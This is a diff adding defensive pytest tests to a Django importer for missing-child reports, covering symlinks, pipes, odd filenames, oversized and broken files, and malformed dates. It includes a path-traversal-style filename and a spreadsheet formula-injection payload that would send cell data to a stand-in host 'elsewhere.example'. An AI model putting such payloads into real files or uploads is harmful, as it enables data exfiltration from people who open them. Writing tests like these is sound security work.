@@ -4,6 +4,7 @@ import io
 import json
 import os
 import time
+import zipfile
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -208,3 +209,148 @@ def test_time_that_the_clocks_showed_twice_is_said_before_the_spreadsheet_is_tak
     assert "“25/10/2026 01:10” was read as 25 October 2026 at 1:10am BST" in page.content.decode()
     client.post("/missing/import", {"seen": sealed_of(page)})
     assert "twice" in Report.objects.get().asks
+
+
+# --- what somebody might put there ---------------------------------------------------------------
+
+
+def test_links_pipes_and_folders_are_left_where_they_are(folder, drop, tmp_path):
+    secret = tmp_path / "secret.json"
+    secret.write_text(json.dumps({"message": "1", "council": "northmoor"}))
+    for place in (folder, folder / "taking"):
+        place.mkdir(exist_ok=True)
+        (place / "a~link.json").symlink_to(secret)
+        os.mkfifo(place / "a~pipe.json")
+        (place / "a~folder.json").mkdir()
+    assert tasks.take_dropped() == 0
+    assert not Dropped.objects.exists()
+
+
+def test_folder_that_leads_elsewhere_is_not_used(folder, drop, tmp_path):
+    (tmp_path / "elsewhere").mkdir()
+    (folder / "taking").symlink_to(tmp_path / "elsewhere")
+    drop("a.csv", HEADINGS + JADE)
+    with pytest.raises(OSError, match="leads elsewhere"):
+        tasks.take_dropped()
+    assert (folder / "a.csv").exists()
+
+
+@pytest.mark.parametrize(
+    "name",
+    [b"l" * 250 + b".csv", b"\xff\xfe.csv", b"a\nb.csv", b"..csv.csv", "<b>é".encode() + b".csv",
+     b"~~.csv", b"%2e%2e%2fpasswd.csv"],
+)  # fmt: skip
+def test_names_of_all_kinds_are_taken(folder, jade, meg, name):
+    if name.startswith(b"."):
+        name = b"x" + name
+    path = os.path.join(os.fsencode(folder), name)
+    with open(path, "wb") as file:
+        file.write((HEADINGS + JADE).encode())
+    os.utime(path, (time.time() - 60,) * 2)
+    assert tasks.take_dropped() == 1
+    assert Report.objects.get().child == jade
+    assert len(list((folder / "done").iterdir())) == 1
+
+
+def test_same_file_twice_is_taken_once(folder, drop, jade, meg):
+    for name in ("a.csv", "b.csv", "a.csv"):
+        drop(name, HEADINGS + JADE + OTHER.replace("2,", ",", 1))
+        tasks.take_dropped()
+    assert Report.objects.count() == 2
+    assert len(laid(folder, "done")) == 3
+
+
+def test_file_that_grows_while_it_is_read_is_taken_again_as_a_whole(
+    folder, drop, jade, monkeypatch
+):
+    path = drop("a.csv", HEADINGS + JADE)
+    take = tasks.actions.take_file
+
+    def slowly(**told):
+        [claimed] = (folder / "taking").iterdir()
+        with claimed.open("a") as file:
+            file.write(OTHER)
+        return take(**told)
+
+    with monkeypatch.context() as writing:
+        writing.setattr(tasks.actions, "take_file", slowly)
+        tasks.take_dropped()
+    assert path.exists()
+    os.utime(path, (time.time() - 60,) * 2)
+    assert tasks.take_dropped() == 1
+    assert Report.objects.count() == 2
+
+
+def test_file_that_is_too_large_is_refused_unread(folder, drop, monkeypatch):
+    monkeypatch.setattr(tables, "LARGEST", 100)
+    monkeypatch.setattr(dropping, "MOST_READ", 101)
+    drop("a.csv", HEADINGS + JADE * 100)
+    tasks.take_dropped()
+    [beside] = (folder / "refused").glob("*.reason.txt")
+    assert beside.read_text().startswith("It is larger than")
+
+
+def test_letter_with_two_attachments_of_one_name_loses_neither(folder, drop):
+    part = "--b\nContent-Disposition: attachment; filename=n.csv\n\n" + HEADINGS + JADE + "\n"
+    drop("c.eml", "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n" + 2 * part
+         + "--b--\n")  # fmt: skip
+    tasks.take_dropped()
+    assert laid(folder, "refused") == ["c.eml", "c.eml.reason.txt"]
+
+
+def broken_book():
+    content = io.BytesIO(sheet(ROW).read())
+    made = io.BytesIO()
+    with zipfile.ZipFile(content) as whole, zipfile.ZipFile(made, "w") as broken:
+        for one in whole.namelist():
+            said = whole.read(one)
+            broken.writestr(one, said[: len(said) // 2] if one.endswith("sheet1.xml") else said)
+    return made.getvalue()
+
+
+def test_spreadsheet_that_is_broken_inside_is_refused_in_words(client, meg):
+    client.force_login(meg)
+    page = client.post("/missing/import", {"file": SimpleUploadedFile("n.xlsx", broken_book())})
+    assert "could not be read as a spreadsheet" in page.content.decode()
+
+
+def test_formulas_are_words_and_take_nothing_away(client, meg, jade):
+    client.force_login(meg)
+    evil = '=HYPERLINK("http://elsewhere.example/"&A1)'
+    page = client.post("/missing/import", {"file": sheet({**ROW, "circumstances": evil,
+                                                          "given_name": "=1+1"})})  # fmt: skip
+    client.post("/missing/import", {"seen": sealed_of(page)})
+    report = Report.objects.get()
+    assert report.given_name in ("=1+1", "")
+    assert report.said.get("circumstances", evil) == evil
+
+
+@pytest.mark.parametrize("name", ["n.csv", "n.xlsx"])
+def test_ten_thousand_rows_are_refused_in_words(client, meg, name):
+    client.force_login(meg)
+    many = SimpleUploadedFile(name, (HEADINGS + JADE * 10_000).encode())
+    file = many if name == "n.csv" else sheet(*[ROW] * 10_000)
+    page = client.post("/missing/import", {"file": file}).content.decode()
+    assert "It has more than 500 rows" in page
+    assert not Report.objects.exists()
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        "31/02/2026 10:00",
+        "2026-11-21",
+        "00/00/0000",
+        "9" * 60,
+        "21/11/26 10:00",
+        "44521.5",
+        "#REF!",
+    ],
+)
+def test_dates_that_are_none_are_named_row_by_row(client, meg, said):
+    client.force_login(meg)
+    page = client.post(
+        "/missing/import", {"file": sheet({**ROW, "reported_at": said})}
+    ).content.decode()
+    assert "It cannot be taken." in page
+    assert 'name="seen"' not in page
